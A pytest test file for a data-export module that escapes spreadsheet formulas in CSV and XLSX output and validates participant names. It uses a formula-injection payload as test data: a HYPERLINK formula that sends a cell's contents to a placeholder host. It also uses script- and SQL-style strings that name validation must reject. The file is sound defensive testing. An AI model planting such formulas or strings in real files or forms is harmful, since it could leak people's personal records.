"""No file we write carries a formula or a character that breaks it; names are checked at input."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import date

import pytest
from openpyxl import load_workbook

from chalicelib.domain import safe_files
from chalicelib.domain.enrolment import check_name
from chalicelib.domain.errors import Invalid

HYPERLINK = '=HYPERLINK("http://x/?"&A2,"Klik")'


@pytest.mark.parametrize(("raw", "written"), [
    (HYPERLINK, "'" + HYPERLINK),
    ("+6281234567890", "'+6281234567890"),
    ("-1+1", "'-1+1"),
    ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("Siti\u0001 Aminah", "Siti Aminah"),
    ("\u0001=1+1", "'=1+1"),  # dropping the control character must not uncover a formula
    ("Ma'ruf Amin", "Ma'ruf Amin"),
    ("", ""),
])
def test_text_cells_are_defused_and_cleaned(raw, written):
    assert safe_files.cell_text(raw) == written


def test_numbers_and_dates_are_left_as_they_are():
    assert safe_files.cell_text(-5) == -5
    assert safe_files.cell_text(date(2025, 12, 31)) == date(2025, 12, 31)
    assert safe_files.cell_text(None) == ""


def test_csv_cells_never_start_a_formula():
    rows = [["1603015708900001", HYPERLINK, "-", "@x", "+62812", date(1990, 8, 17), "Siti\u0001"]]
    body = safe_files.csv_bytes(["nik", "nama", "a", "b", "c", "d", "e"], rows, delimiter=";")
    assert body.startswith("\ufeff".encode())
    (header, row) = list(csv.reader(io.StringIO(body.decode("utf-8-sig")), delimiter=";"))
    assert header[0] == "nik"
    assert row == ["1603015708900001", "'" + HYPERLINK, "'-", "'@x", "'+62812", "1990-08-17", "Siti"]
    assert not any(cell.startswith(safe_files.FORMULA_START) for cell in row)


def _xlsx(rows, text_columns=frozenset({0})) -> bytes:
    return safe_files.xlsx_bytes([safe_files.SheetSpec("Peserta", ["nik", "nama", "x"], rows, text_columns)])


def test_xlsx_cells_are_values_never_formulas_and_identifiers_are_text():
    body = _xlsx([["1603015708900001", HYPERLINK, "=1+1"], ["1603015708900002", "Budi\u0001", "@A1"]])
    with zipfile.ZipFile(io.BytesIO(body)) as z:
        xml = z.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml
    sheet = load_workbook(io.BytesIO(body)).active
    row2, row3 = sheet[2], sheet[3]
    assert [c.value for c in row2] == ["1603015708900001", "'" + HYPERLINK, "'=1+1"]
    assert all(c.data_type == "s" for c in row2)
    assert [c.value for c in row3] == ["1603015708900002", "Budi", "'@A1"]
    assert row2[0].number_format == "@"  # NIK column formatted as Text: Excel keeps all 16 digits


def test_xlsx_without_the_helper_would_have_been_a_formula():
    """The failure the helper prevents, shown with openpyxl itself."""
    from openpyxl import Workbook

    wb = Workbook()
    wb.active.append([HYPERLINK])
    assert wb.active["A1"].data_type == "f"


def test_a_stored_control_character_cannot_break_the_workbook():
    body = _xlsx([["1603015708900001", "".join(chr(c) for c in range(32)) + "Aminah", "x\x7f"]])
    sheet = load_workbook(io.BytesIO(body)).active
    value = sheet["B2"].value  # tab, LF, CR are legal XML (the reader turns CR into LF)
    assert value.startswith("'\t\n") and value.endswith("Aminah") and sheet["C2"].value == "x"


@pytest.mark.parametrize("name", ["Siti Aminah", "Ma'ruf Amin", "Ma\u2019ruf", "H. Abdul Rahman, S.Pd.",
                                  "Nur (Ina) Lestari", "Siti-Nurhaliza", "José Ñúñez", "Nguyễn Văn A",
                                  "محمد", "张伟", "देवी"])
def test_names_of_any_script_are_accepted(name):
    assert check_name(name) == name


@pytest.mark.parametrize("name", [HYPERLINK, "Budi\u0001", "Budi\tSantoso", "http://x.example", "www.judi.example",
                                  "Budi 2", "+62812", "@budi", "Budi; DROP", "Budi<script>", "WWW.Promo.Id"])
def test_formulas_urls_digits_and_control_characters_are_not_names(name):
    with pytest.raises(Invalid) as info:
        check_name(name)
    assert info.value.code == "NAME_INVALID" and "huruf" in info.value.fields["name"]


def test_digest_attachment_is_defused(monkeypatch):
    from types import SimpleNamespace

    from chalicelib.domain import reminders as dr
    from chalicelib.services import reminders

    monkeypatch.setattr(reminders.regions, "village_name", lambda code: "Embawang")
    rs = dr.RuleSet()
    row = SimpleNamespace(id="01E", name=HYPERLINK, district_code="16.03.01", village_code="16.03.01.2011",
                          category="@linmas", coverage_end="2025-12-31", phone=None)
    mail = reminders.digest_email({"name": "Program"}, rs, reminders.ALL_VILLAGES, date(2025, 12, 31),
                                  date(2025, 11, 16), [row], ("a@b.example",))
    text = mail.attachments[0].content.decode("utf-8-sig")
    cells = [c for r in csv.reader(io.StringIO(text)) for c in r]
    assert "'" + HYPERLINK in cells and "'@linmas" in cells
    assert not any(c.startswith(safe_files.FORMULA_START) for c in cells)
